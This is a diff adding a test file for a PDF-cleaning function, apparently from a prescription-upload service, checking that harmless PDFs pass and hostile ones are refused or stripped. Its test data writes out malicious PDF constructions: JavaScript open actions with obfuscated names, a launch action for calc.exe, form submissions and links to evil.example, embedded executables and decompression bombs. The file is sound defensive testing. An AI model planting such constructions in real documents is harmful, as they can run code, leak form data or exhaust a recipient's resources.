@@ -1,0 +1,215 @@
+import { readFileSync } from 'node:fs'
+import path from 'node:path'
+import { deflateSync } from 'node:zlib'
+import { PDFDocument } from '@cantoo/pdf-lib'
+import { PRESCRIPTION_BYTES_MAX } from '@/lib/contract/prescriptions'
+import { pdf, pdfOf, pdfWith } from '../testing/files'
+import { cleanPdf } from './clean-pdf'
+import { RefusedFile } from './refusal'
+import { packed, pdfPage, revised, stream } from './testing/pdfs'
+
+/** The code of the refusal, or `sound`. */
+const judgePdf = (content: Buffer) =>
+  cleanPdf(content, PRESCRIPTION_BYTES_MAX).then(
+    () => 'sound',
+    (error: unknown) => (error instanceof RefusedFile ? error.code : error),
+  )
+
+const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'
+test.each([
+  ['a plain file', pdf()],
+  ['one that opens on a page', pdfWith('/OpenAction [3 0 R /Fit]')],
+  ['one that goes to a page by an action, as LaTeX writes it', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
+  ['one with a link', pdfWith('', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://salute.gov.it) >> >>')],
+  ['one that is signed', pdfWith('/AcroForm << /SigFlags 3 /Fields [] >>')],
+  ['one with a compressed object', pdfWith('', packed({ 5: '<< /S /URI >>' }))],
+])('%s is sound', async (_, content) => {
+  expect(await judgePdf(content)).toBe('sound')
+})
+
+test.each([
+  ['a script when it is opened', pdfWith(`/OpenAction ${SCRIPT}`)],
+  ['a name written in another way', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')],
+  ['a script in an object of its own', pdfWith('/OpenAction 4 0 R', '<< /S /J#61vaScript >>')],
+  ['a compressed script', pdfWith('/OpenAction 5 0 R', packed({ 5: SCRIPT }))],
+  ['a compressed script that nothing opens', pdfWith('', packed({ 5: '<< /A 1 >>', 6: SCRIPT }))],
+  ['scripts by name', pdfWith('/Names << /J#61vaScript << /Names [] >> >>')],
+  ['a page opened on the web', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')],
+  ['a step after going to a page', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI >> >>')],
+  ['a program that it starts', pdfWith('', '<< /S /L#61unch /F (calc.exe) >>')],
+  ['something at each turn of a page', pdfWith('/AA << /WC << /S /GoTo >> >>')],
+  ['a form that sends itself', pdfWith('', '<< /A [ << /S /SubmitForm /F (https://evil.example) >> ] >>')],
+  ['an object that is none', pdfWith('', '<< /S /SubmitForm /F (x) > >')],
+  ['a form with scripts of its own', pdfWith('/AcroForm << /XFA 4 0 R >>', '(xdp)')],
+])('%s is active', async (_, content) => {
+  expect(await judgePdf(content)).toBe('file_active')
+})
+
+test.each([
+  ['nothing but the first bytes', Buffer.from('%PDF-1.7\n')],
+  ['half a file', pdf('x'.repeat(400)).subarray(0, 60)],
+  ['no page', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
+])('%s is unreadable', async (_, content) => {
+  expect(await judgePdf(content)).toBe('file_unreadable')
+})
+
+test('a password that is asked for locks a file, one that only forbids changes does not', async () => {
+  const locked = await PDFDocument.load(pdf())
+  locked.encrypt({ userPassword: 'segreto', ownerPassword: 'segreto' })
+  expect(await judgePdf(Buffer.from(await locked.save()))).toBe('file_locked')
+  const open = await PDFDocument.load(pdf())
+  open.encrypt({ userPassword: '', ownerPassword: 'segreto', permissions: { modifying: false } })
+  expect(await judgePdf(Buffer.from(await open.save()))).toBe('sound')
+})
+
+const hostile = (name: string) => readFileSync(path.join(__dirname, 'testing', `${name}.pdf`))
+const clean = (content: Buffer) => cleanPdf(content, PRESCRIPTION_BYTES_MAX)
+const LINK = '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200]'
+const ZEROS = deflateSync(Buffer.alloc(300_000_000), { level: 9 })
+
+test.each([
+  ['a script under a decoy of the same number', hostile('hidden'), 'file_active'],
+  ['a script that a decoy replaces', revised(pdfWith('/OpenAction 4 0 R', SCRIPT), 4, '<< /S /GoTo >>'), 'file_active'],
+  ['a compressed script under a decoy', pdfWith('', packed({ 5: SCRIPT }), '<< /S /GoTo >>'), 'file_active'],
+  ['two objects of one number', pdfWith('', packed({ 5: '<< /A 1 >>' }), '<< /B 2 >>'), 'file_unreadable'],
+  ['a revision that names none before it', revised(pdf(), 4, '<< >>', { prev: false }), 'file_unreadable'],
+  ['object streams compressed twice', hostile('bomb'), 'file_too_complex'],
+  [
+    'an object stream of hundreds of megabytes',
+    pdfWith('', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', ZEROS)),
+    'file_too_complex',
+  ],
+  [
+    'the same behind text',
+    pdfWith(
+      '',
+      stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', `${ZEROS.toString('hex')}>`),
+    ),
+    'file_too_complex',
+  ],
+  [
+    'a page of hundreds of megabytes',
+    pdfPage('/Contents 4 0 R', stream('/Filter /FlateDecode', ZEROS)),
+    'file_too_complex',
+  ],
+  [
+    'a page compressed twice',
+    pdfPage('/Contents 4 0 R', stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync('0 g')))),
+    'file_too_complex',
+  ],
+  [
+    'a page of runs in hexadecimal',
+    pdfPage('/Contents 4 0 R', stream('/Filter [/ASCIIHexDecode /RunLengthDecode]', `${'8120'.repeat(600_000)}>`)),
+    'file_too_complex',
+  ],
+  [
+    'a picture of a million by a million',
+    pdfPage(
+      '/Resources << /XObject << /A 4 0 R >> >>',
+      stream('/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /Filter /JPXDecode', 'x'),
+    ),
+    'file_too_complex',
+  ],
+  [
+    'tens of thousands of objects',
+    pdfWith('', packed(Object.fromEntries(Array.from({ length: 60_000 }, (_, index) => [index + 5, 'null'])))),
+    'file_too_complex',
+  ],
+  [
+    'pages in a loop',
+    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
+    'file_unreadable',
+  ],
+  ['a filter that nobody knows', pdfPage('/Contents 4 0 R', stream('/Filter /Crypt', '0 g')), 'file_too_complex'],
+] as const)('%s is refused', async (_, content, code) => {
+  expect(await judgePdf(content)).toBe(code)
+})
+
+test.each([
+  ['a file elsewhere that a tap opens', hostile('gotor'), 'evil.example'],
+  ['a page in another language', hostile('poly'), '<script>'],
+  ['an archive behind it', hostile('zip'), 'x.exe'],
+  ['a link', pdfPage('/Annots [4 0 R]', `${LINK} /A << /S /URI /URI (https://evil.example) >> >>`), 'evil.example'],
+  [
+    'a page of an attachment that a tap opens',
+    pdfPage('/Annots [4 0 R]', `${LINK} /A << /S /GoToE /T << /R /C /N (evil.example) >> >> >>`),
+    'evil.example',
+  ],
+  [
+    'an attachment',
+    pdfWith(
+      '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> /AF [4 0 R]',
+      '<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>',
+      stream('/Type /EmbeddedFile', 'evil.example'),
+    ),
+    'evil.example',
+  ],
+  [
+    'an attachment of a page',
+    pdfPage(
+      '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.exe) /EF << /F 4 0 R >> >> >>]',
+      stream('/Type /EmbeddedFile', 'evil.example'),
+    ),
+    'evil.example',
+  ],
+  [
+    'content in a file elsewhere',
+    pdfPage('/Contents 4 0 R', stream('/F << /FS /URL /F (https://evil.example) >> /FFilter /FlateDecode', '')),
+    'evil.example',
+  ],
+  [
+    'a form of another document',
+    pdfPage(
+      '/Resources << /XObject << /Form 4 0 R >> >>',
+      stream('/Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.example) /Page 0 >>', ''),
+    ),
+    'evil.example',
+  ],
+  ['fields', pdfWith('/AcroForm << /Fields [<< /T (evil.example) /FT /Tx /V (evil.example) >>] >>'), 'evil.example'],
+  [
+    'a film',
+    pdfPage('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (evil.example) >> /A true >>]'),
+    'evil.example',
+  ],
+  ['metadata', pdfWith('/Metadata 4 0 R', stream('/Type /Metadata /Subtype /XML', 'evil.example')), 'evil.example'],
+  ['objects of no page', pdf('evil.example'), 'evil.example'],
+])('%s is left out', async (_, content, text) => {
+  expect(content.toString('latin1')).toContain(text)
+  const written = (await clean(content)).toString('latin1')
+  expect(written).not.toContain(text)
+  expect(written).not.toMatch(/\/(Annots|A|AA|Names|AF|EF|F|AcroForm|Ref|Metadata|OpenAction|Info|URI)\b/)
+  expect((await PDFDocument.load(Buffer.from(written, 'latin1'))).getPageCount()).toBe(1)
+})
+
+test('what a page shows is kept: text, size, what it inherits, and the appearance of its annotations', async () => {
+  const document = await PDFDocument.create()
+  const page = document.addPage([300, 400])
+  page.drawText('Promemoria', { font: await document.embedFont('Helvetica') })
+  const field = document.getForm().createTextField('nome')
+  field.setText('Anna')
+  field.addToPage(page, { x: 20, y: 30, width: 100, height: 20 })
+  const written = await clean(Buffer.from(await document.save()))
+  const kept = (await PDFDocument.load(written)).getPage(0)
+  expect(kept.getSize()).toEqual({ width: 300, height: 400 })
+  const text = written.toString('latin1')
+  expect(text).toContain('/BaseFont /Helvetica')
+  expect(text).toContain('/Appearance0')
+  expect(text).not.toContain('/Widget')
+})
+
+test('the last revision of a file that was changed counts', async () => {
+  const written = await clean(
+    revised(pdfPage('/Contents 4 0 R', stream('', '1 g')), 3, '<< /Type /Page /MediaBox [0 0 77 88] >>'),
+  )
+  expect((await PDFDocument.load(written)).getPage(0).getSize()).toEqual({ width: 77, height: 88 })
+})
+
+test('no archive survives in what is kept', async () => {
+  const archive = 'PK\x05\x06'.padEnd(22, '\0')
+  const content = pdfPage(
+    '/Resources << /Font << /F << /Type /Font /BaseFont (PK\x05\x06) >> >> >>',
+    stream('', archive),
+  )
+  expect(await judgePdf(content)).toBe('file_unreadable')
+  expect((await clean(pdfPage('/Contents 4 0 R', stream('', archive)))).includes('PK\x05\x06')).toBe(false)
+})
